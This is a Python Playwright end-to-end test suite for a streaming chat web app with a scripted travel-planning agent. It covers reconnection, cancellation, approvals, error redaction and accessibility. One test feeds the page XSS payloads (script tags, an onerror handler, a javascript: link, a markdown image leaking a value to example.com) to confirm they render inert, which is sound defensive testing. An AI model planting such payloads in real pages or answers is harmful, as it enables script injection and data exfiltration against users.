"""The page in Chromium, with the TravelPlanner and with agents that misbehave; what nodes share, on several, too."""

from __future__ import annotations

import asyncio
from contextlib import asynccontextmanager
from datetime import date
from typing import TYPE_CHECKING, Any

import pytest
from agent_framework import Agent
from playwright.async_api import expect
from starlette.applications import Starlette
from starlette.routing import Mount

from streamsink.core.settings import Settings
from streamsink.demo.scripted import Pause, ScriptedChatClient, Text
from streamsink.demo.travel_planner import TravelScript, create_agent
from streamsink.hosts.asgi import StreamApp
from streamsink.testing.serving import serving
from tests.e2e.browser import ask, browser, ended, shown
from tests.e2e.world import world

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Sequence

    from tests.e2e.places import Place

pytestmark = [pytest.mark.service, pytest.mark.timeout(120)]

FIRST = "Plan a 3-day trip to Lisbon"
FOLLOW_UP = "Include neighbouring countries as well"
BACKENDS = ("memory", "three-nodes", "signalr")
EVERY_HISTORY = ("signalr-memory", "signalr-none")


def runs_on(*places: str) -> pytest.MarkDecorator:
    """Where a test runs the app; see the fixture ``on``."""
    return pytest.mark.parametrize("on", places, indirect=True)


@asynccontextmanager
async def site(*agents: Agent, on: Place | None = None) -> AsyncIterator[str]:
    """The app on a free port, under its own roof; everybody may come."""
    async with world(*(agents or (planner(),)), on=on, identify=None) as app:
        yield app.url


def planner(*, token_interval_s: float = 0.0) -> Agent:
    client = ScriptedChatClient(TravelScript(lambda: date(2026, 5, 4)), token_interval_s=token_interval_s)
    return create_agent(client)


def speaker(*replies: Sequence[Any], token_interval_s: float = 0.002) -> Agent:
    """An agent that says these, one after the other."""
    left = list(replies)

    def script(messages: Sequence[Any], options: Any) -> Any:
        return left.pop(0)

    return Agent(client=ScriptedChatClient(script, token_interval_s=token_interval_s), name="Speaker")


@runs_on(*BACKENDS, *EVERY_HISTORY)
async def test_a_conversation_of_several_turns(on: Place) -> None:
    """The first visit: a prompt, tools as they happen, an answer in Markdown, and a turn that builds on it."""
    async with site(on=on) as url, browser() as visitor:
        page = await visitor.page(f"{url}/api/index")
        await page.get_by_role("button", name=FIRST).click()
        await expect(page.locator("details").filter(has_text="get_weather_forecast").first).to_be_attached()
        await ended(page, 1)
        await ask(page, FOLLOW_UP)
        await ended(page, 2)

        first, second = page.locator("article.run").nth(0), page.locator("article.run").nth(1)
        await expect(first.locator(".markdown table").first).to_be_visible()
        await expect(first.locator(".markdown h3, .markdown h4").first).to_be_visible()
        await expect(second).to_contain_text("Lisbon")
        await expect(second).to_contain_text("Spain")
        await expect(page.locator("#connection")).to_have_attribute("data-state", "live")


@runs_on(*BACKENDS)
async def test_a_second_tab_and_a_reload_show_the_same(on: Place) -> None:
    async with site(planner(token_interval_s=0.002), on=on) as url, browser() as visitor:
        page = await visitor.page(f"{url}/api/index")
        await ask(page, FIRST)
        await expect(page.locator("article.run")).to_have_count(1)
        other = await visitor.page(page.url)
        for each in (page, other):
            await ended(each, 1)
        first = await shown(page)

        assert await shown(other) == first
        await page.reload()
        await ended(page, 1)
        assert await shown(page) == first


@runs_on(*BACKENDS)
async def test_dropped_connections_change_nothing(on: Place) -> None:
    """Cut again and again while the answer is written; the page says that it reconnects, and misses no character."""
    agent = planner(token_interval_s=0.01)
    async with world(agent, on=on, identify=None) as app, browser() as visitor:
        page = await visitor.page(f"{app.url}/api/index")
        await ask(page, FIRST)
        for _ in range(5):
            await expect(page.locator("article.run .items")).not_to_be_empty()
            app.cut_all()
            await asyncio.sleep(0.2)
        await ended(page, 1)
        after_cuts = await shown(page)
        uncut = await visitor.page(page.url)
        await ended(uncut, 1)

        assert await shown(uncut) == after_cuts


@runs_on(*BACKENDS, "signalr-none")
async def test_stop_keeps_what_was_said(on: Place) -> None:
    waiting = asyncio.Event()
    agent = speaker([Text("The beginning stays. "), Pause(waiting.wait), Text("never")], [Text("The next answer.")])
    async with site(agent, on=on) as url, browser() as visitor:
        page = await visitor.page(f"{url}/api/index")
        await ask(page, "go")
        await expect(page.locator("article.run")).to_contain_text("The beginning stays.")
        await page.keyboard.press("Escape")
        await ended(page, 1, "cancelled")
        await ask(page, "and now?")
        await ended(page, 1, "completed")

        await expect(page.locator("#log")).to_contain_text("The beginning stays.")
        await expect(page.locator("#log")).to_contain_text("The next answer.")
        await expect(page.locator("#log")).not_to_contain_text("never")


@pytest.mark.parametrize(("button", "outcome"), [("Approve", "booked"), ("Deny", "nothing was booked")])
@runs_on("memory", "signalr")
async def test_approvals_are_answered(button: str, outcome: str, on: Place) -> None:
    async with site(on=on) as url, browser() as visitor:
        page = await visitor.page(f"{url}/api/index")
        await ask(page, FIRST)
        await ended(page, 1)
        await ask(page, "Book it")
        await page.get_by_role("button", name=button, exact=True).click()
        await ended(page, 3)

        await expect(page.locator("article.run").nth(2)).to_contain_text(outcome, ignore_case=True)
        await expect(page.get_by_role("button", name=button, exact=True)).to_have_count(0)


@runs_on("memory", "signalr")
async def test_failures_are_said_without_their_secrets(on: Place) -> None:
    agent = speaker([Text("Half an "), ValueError("secret-key-123")], [Text("Well again.")])
    async with site(agent, on=on) as url, browser() as visitor:
        page = await visitor.page(f"{url}/api/index")
        await ask(page, "go")
        await ended(page, 1, "failed")
        await expect(page.locator("article.run")).to_contain_text("Half an")
        await expect(page.locator("article.run .run-end")).to_be_visible()
        await ask(page, "again")
        await ended(page, 1, "completed")

        assert "secret-key-123" not in await page.content()


@runs_on("memory", "signalr")
async def test_answers_cannot_run_anything(on: Place) -> None:
    """Markup, script addresses and remote images in an answer are text."""
    attack = (
        "<img src=x onerror=window.hacked=1> <script>window.hacked=1</script> [link](javascript:window.hacked=1) "
        "![spy](https://example.com/leak?word=secret) **bold**"
    )
    async with site(speaker([Text(attack, replace=True)]), on=on) as url, browser() as visitor:
        page = await visitor.page(f"{url}/api/index")
        requests: list[str] = []
        page.on("request", lambda request: requests.append(request.url))
        await ask(page, "go")
        await ended(page, 1)

        body = page.locator("article.run .items .markdown")
        await expect(body.locator("strong")).to_have_text("bold")
        await expect(body.locator("img, script")).to_have_count(0)
        assert await page.evaluate("window.hacked") is None
        assert not [address for address in requests if "example.com" in address]


@runs_on("memory", "signalr")
async def test_a_strangers_conversation_is_refused_and_a_new_one_offered(on: Place) -> None:
    async with site(on=on) as url, browser() as owner, browser() as stranger:
        mine = await owner.page(f"{url}/api/index")
        await ask(mine, "hello")
        await ended(mine, 1)
        theirs = await stranger.page(mine.url)

        await expect(theirs.locator("#notices")).not_to_be_empty()
        await expect(theirs.locator("article.run")).to_have_count(0)
        assert await shown(mine) not in await theirs.content()
        await theirs.locator("#notices").get_by_role("button", name="conversation").click()
        await ask(theirs, "hello")
        await ended(theirs, 1)


async def test_a_lost_history_is_said() -> None:
    """The server forgets everything (a restart of the memory backend): the page says so."""
    async with site() as url, browser() as visitor:
        page = await visitor.page(f"{url}/api/index")
        await ask(page, "hello")
        await ended(page, 1)
        port = int(url.rpartition(":")[2])
        fragment = page.url

    assert port
    async with site() as url, browser() as visitor:
        again = await visitor.page(fragment.replace(str(port), url.rpartition(":")[2]))
        await expect(again.locator("#notices")).not_to_be_empty()


@runs_on("memory", "signalr")
async def test_delete_and_new_conversation(on: Place) -> None:
    async with site(on=on) as url, browser() as visitor:
        page = await visitor.page(f"{url}/api/index")
        await ask(page, "hello")
        await ended(page, 1)
        old = page.url
        await page.get_by_role("button", name="Delete this conversation").click()
        await page.get_by_role("dialog").get_by_role("button", name="Delete").click()
        await expect(page.locator("article.run")).to_have_count(0)
        await ask(page, "hello again")
        await ended(page, 1)

        assert page.url != old
        gone = await visitor.page(old)
        await expect(gone.locator("#notices")).not_to_be_empty()


async def test_the_page_works_under_a_prefix() -> None:
    """Mounted into somebody else's app, with that app's lifespan."""
    streams = StreamApp([planner()], settings=Settings())

    @asynccontextmanager
    async def lifespan(app: Starlette) -> AsyncIterator[None]:
        async with streams.running():
            yield

    outer = Starlette(routes=[Mount("/deep/chat", streams)], lifespan=lifespan)
    async with serving(outer, lifespan=True) as url, browser() as visitor:
        page = await visitor.page(f"{url}/deep/chat/api/index")
        await ask(page, FIRST)
        await ended(page, 1)

        await expect(page.locator("article.run")).to_contain_text("Lisbon")


@pytest.mark.parametrize("viewport", [{"width": 360, "height": 640}, {"width": 1280, "height": 800}])
@runs_on("memory", "signalr")
async def test_nothing_is_wider_than_the_screen(viewport: Any, on: Place) -> None:
    async with site(on=on) as url, browser(viewport=viewport, color_scheme="dark") as visitor:
        page = await visitor.page(f"{url}/api/index")
        await ask(page, FIRST)
        await ended(page, 1)

        assert await page.evaluate("document.documentElement.scrollWidth") <= viewport["width"]


@runs_on("memory", "signalr")
async def test_keyboard_alone_is_enough(on: Place) -> None:
    """The message box has the focus: write two lines, send, open a tool's details; the first Tab stop leads back."""
    async with site(on=on) as url, browser() as visitor:
        page = await visitor.page(f"{url}/api/index")
        await expect(page.locator("#loading")).to_be_hidden()
        await page.keyboard.type("Plan a 2-day trip")
        await page.keyboard.press("Shift+Enter")
        await page.keyboard.type("to Kyoto")
        await page.keyboard.press("Enter")
        await ended(page, 1)
        summary = page.locator("details summary").first
        await summary.focus()
        await page.keyboard.press("Enter")

        await expect(page.locator("details").first).to_have_attribute("open", "")
        await page.locator(".skip-link").focus()
        await page.keyboard.press("Enter")
        await expect(page.get_by_label("Your message")).to_be_focused()
        await expect(page.get_by_role("log")).to_contain_text("Kyoto")
        await expect(page.get_by_role("status").first).to_be_attached()
